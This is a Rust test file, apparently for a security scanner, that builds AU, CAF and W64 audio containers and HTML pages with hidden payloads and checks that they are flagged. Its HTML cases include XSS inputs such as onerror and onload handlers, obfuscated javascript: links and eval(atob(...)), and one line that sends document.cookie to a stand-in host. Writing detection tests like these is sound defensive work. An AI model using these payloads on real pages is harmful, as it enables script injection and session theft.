//! Pages, and containers of samples.

use custos_core::finding::Severity;

use super::{build, found, payload, quiet, tells};
use crate::pickle::look;

pub fn html(inside: &str) -> Vec<u8> {
    format!(
        "<!-- a report -->\n<!DOCTYPE html>\n<html><head><title>A report</title></head>\n\
         <body onload=\"start()\"><p>One < two.</p>{inside}</body></html>\n"
    )
    .into_bytes()
}

pub fn au(description: &[u8]) -> Vec<u8> {
    let mut out = b".snd".to_vec();
    for number in [24 + description.len(), 40, 3, 8_000, 1] {
        out.extend(build::be32(number));
    }
    out.extend(description);
    out.extend([7; 40]);
    out
}

fn caf_part(name: [u8; 4], data: &[u8]) -> Vec<u8> {
    let mut out = name.to_vec();
    out.extend([0; 4]);
    out.extend(build::be32(data.len()));
    out.extend(data);
    out
}

pub fn caf(information: &[u8]) -> Vec<u8> {
    let mut description = 8_000_f64.to_be_bytes().to_vec();
    description.extend(b"lpcm");
    for number in [0, 2, 1, 1, 16] {
        description.extend(build::be32(number));
    }
    [
        b"caff\0\x01\0\0".to_vec(),
        caf_part(*b"desc", &description),
        caf_part(*b"info", information),
        caf_part(*b"free", &[0; 16]),
        caf_part(*b"data", &[7; 44]),
    ]
    .concat()
}

fn w64_part(name: &[u8; 16], data: &[u8]) -> Vec<u8> {
    let mut out = name.to_vec();
    out.extend((24 + data.len() as u64).to_le_bytes());
    out.extend(data);
    out.resize(out.len().next_multiple_of(8), 0);
    out
}

pub fn w64(text: &[u8]) -> Vec<u8> {
    const REST: &[u8; 12] = b"\xf3\xac\xd3\x11\x8c\xd1\0\xc0\x4f\x8e\xdb\x8a";
    let name = |four: &[u8; 4]| -> [u8; 16] { [&four[..], REST].concat().try_into().unwrap() };
    let mut format = vec![1, 0, 1, 0, 0x40, 0x1f, 0, 0, 0x80, 0x3e, 0, 0, 2, 0, 16, 0];
    format.extend([0; 4]);
    let parts = [
        name(b"wave").to_vec(),
        w64_part(&name(b"fmt "), &format),
        w64_part(&name(b"summ"), text),
        w64_part(&name(b"data"), &[7; 40]),
    ]
    .concat();
    let mut out = b"riff\x2e\x91\xcf\x11\xa5\xd6\x28\xdb\x04\xc1\0\0".to_vec();
    out.extend((24 + parts.len() as u64).to_le_bytes());
    out.extend(parts);
    out
}

#[test]
fn samples_in_their_containers() {
    for (good, hidden) in [
        (au(b"a recording, short"), au(&payload())),
        (caf(b"a recording"), caf(&payload())),
        (w64(b"a recording"), w64(&payload())),
    ] {
        quiet(&good);
        tells(&hidden, "media/program", Severity::High);
        tells(&good[..good.len() - 9], "media/broken", Severity::Medium);
        let both = [good, payload()].concat();
        tells(&both, "media/program", Severity::High);
    }
    // A recording that goes on to the end, and room that is left free and is none.
    let mut open = au(b"on air");
    open[8..12].fill(0xff);
    quiet(&open);
    let whole = caf(b"x");
    let room = [whole.clone(), caf_part(*b"free", &[0; 4000])].concat();
    assert_eq!(look(&room).formats.len(), 1);
    quiet(&room);
    let at = whole.windows(4).position(|four| four == b"free").unwrap();
    let hides = [&whole[..at], &caf_part(*b"free", &payload()), &whole[at..]].concat();
    tells(&hides, "media/program", Severity::High);
}

#[test]
fn pages_that_act_by_themselves() {
    quiet(&html(
        "<a href=\"javascript:void(0)\">top</a><a href='https://x.example'>x</a>",
    ));
    quiet(&html(
        "<img src='data:image/png;base64,AAAA' alt='onerror=alert(1)'>",
    ));
    quiet(&html(
        "<!-- <img src=x onerror=alert(1)> --><pre>&lt;script&gt;</pre>",
    ));
    tells(
        &html("<script>plot('<img src=x onerror=go()>')</script>"),
        "media/script",
        Severity::Low,
    );
    for bad in [
        "<img src=x onerror=\"fetch('//x.example/'+document.cookie)\">",
        "<IMG SRC=x\nONERROR=go()>",
        "<svg onload=go()>",
        "<a href=\" java\tscript:go()\">x</a>",
        "<iframe src='data:text/html;base64,AAAA'></iframe>",
    ] {
        tells(&html(bad), "media/script", Severity::Medium);
    }
    let decoded = look(&html("<script>eval ( atob('YWxlcnQoMSk=') )</script>"));
    let is_told = decoded
        .findings
        .iter()
        .any(|one| one.severity == Severity::Medium);
    assert!(
        is_told && found(&decoded, "media/script").is_some(),
        "{decoded:#?}"
    );
}
